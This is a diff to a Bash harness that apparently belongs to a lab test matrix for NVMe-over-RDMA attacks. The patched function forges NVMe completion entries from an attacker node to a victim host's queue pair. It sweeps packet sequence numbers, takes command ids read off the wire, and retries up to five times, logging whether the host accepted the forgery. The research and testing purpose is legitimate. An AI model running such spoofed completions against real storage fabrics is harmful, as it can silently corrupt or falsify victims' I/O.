@@ -23,11 +23,13 @@ _sprs_cid() {
 	printf '0x%s%s' "${hex:86:2}" "${hex:84:2}"
 }
 
-# _sprs_try T0-VAR: one forged completion to AIM's QP (the PSN read again,
-# a command id read off the wire), then up to 10 s for the host's line.
-# Sets cid and line; returns 1 if the host logged nothing.
+# _sprs_try T0: one forged completion to AIM's QP (the PSN read again, a
+# command id read off the wire), then up to 10 s for the host's line since
+# uptime T0 (the first try's: a completion an earlier try slipped in may
+# be noticed only when its command times out). Sets cid and line; returns 1
+# if the host logged nothing.
 _sprs_try() {
-	local tq t0
+	local tq
 	tq=$(rdma -d res show qp link rxe2/1 lqpn $((AIM_QPN)) 2>/dev/null | sed -n 's/.* rqpn \([0-9]*\) .*/\1/p')
 	if ! cid=$(_sprs_cid "${tq:-0}"); then
 		# An idle queue carries no capsule to read: take the other direction's busiest queue's.
@@ -36,19 +38,20 @@ _sprs_try() {
 	# The PSN moved on while the capsule was read: aim again, at the same QP.
 	AIM_PSN=$(_cell_qps rxe2 | awk -v q=$((AIM_QPN)) '$1 == q {print $2}')
 	[ "${AIM_SWEEP#*:}" = 1 ] && AIM_SWEEP=$AIM_PSN:1 || AIM_SWEEP=$AIM_PSN:20000
-	read -r t0 _ </proc/uptime
 	fabric on 3 "$ATK" spoof-response --dst "$VICTIM_CLIENT_IP" --src "$VICTIM_SERVER_IP" --qpn "$AIM_QPN" \
 		--psn-sweep "$AIM_SWEEP" --cid "$cid" --iface fab3 --sport 4242 --json >"$CELL/attack.json" 2>"$CELL/attack.err"
 	echo "spoof-response exit $? ($AIM_HOW: host qpn $AIM_QPN psn $AIM_PSN, cid $cid)" >&2
-	for _ in $(seq 1 20); do line=$(cell_nvmf_host_line "$t0") && return 0; sleep 0.5; done
+	for _ in $(seq 1 20); do line=$(cell_nvmf_host_line "$1") && return 0; sleep 0.5; done
 	line=''
 	return 1
 }
 
 cell_spoof_response() {
-	local v=$1 cid line fio tries
+	local v=$1 cid line fio tries t0 ended
 	cell_nvmf_only spoof-response "$v" && return
-	cell_nvmf_start spoof-response || return
+	# The host's I/O runs until the cell ends (victim_stop): a completion forged
+	# after its last command finds nothing in flight and is dropped unlogged.
+	CELL_NVMF_SECONDS=${CELL_NVMF_SECONDS:-300} cell_nvmf_start spoof-response || return
 	# The host's I/O queue QP whose expected PSN the forged completion takes.
 	if ! cell_nvmf_aim rxe2; then
 		matrix_result spoof-response "$v" error "" "no I/O queue QP on rxe2"
@@ -56,8 +59,15 @@ cell_spoof_response() {
 		return
 	fi
 	# A sweep behind a busy queue's PSN lands nothing, and a completion that
-	# lands on a command in flight may complete it silently: up to 3 tries.
-	for tries in 1 2 3; do _sprs_try && break; done
+	# lands on a command in flight may complete it silently (the host notices
+	# only when the real one finds no command, or the command times out):
+	# up to 5 tries, each judged on what the host logged since the first.
+	read -r t0 _ </proc/uptime
+	for tries in 1 2 3 4 5; do
+		_sprs_try "$t0" && break
+		kill -0 "$VICTIM_CLIENT_PID" 2>/dev/null || break
+	done
+	kill -0 "$VICTIM_CLIENT_PID" 2>/dev/null && ended='' || ended="; the host's I/O had ended"
 	victim_attack_done
 	fio=$(victim_grep "$VICTIM_CLIENT_LOG" 'verify|[Ee]rror|err=') || fio=''
 	victim_stop
@@ -66,6 +76,6 @@ cell_spoof_response() {
 			"forged CQE (cid $cid, success) to host QP $AIM_QPN ($AIM_HOW, try $tries) taken by nvme-rdma: $line${fio:+; fio: ${fio:0:60}}"
 	else
 		matrix_result spoof-response "$v" error "" \
-			"the host logged nothing after 3 forged CQEs (last cid $cid) to QP $AIM_QPN ($AIM_HOW)${fio:+; fio: ${fio:0:60}}"
+			"the host logged nothing after $tries forged CQE(s) (last cid $cid) to QP $AIM_QPN ($AIM_HOW)$ended${fio:+; fio: ${fio:0:60}}"
 	fi
 }
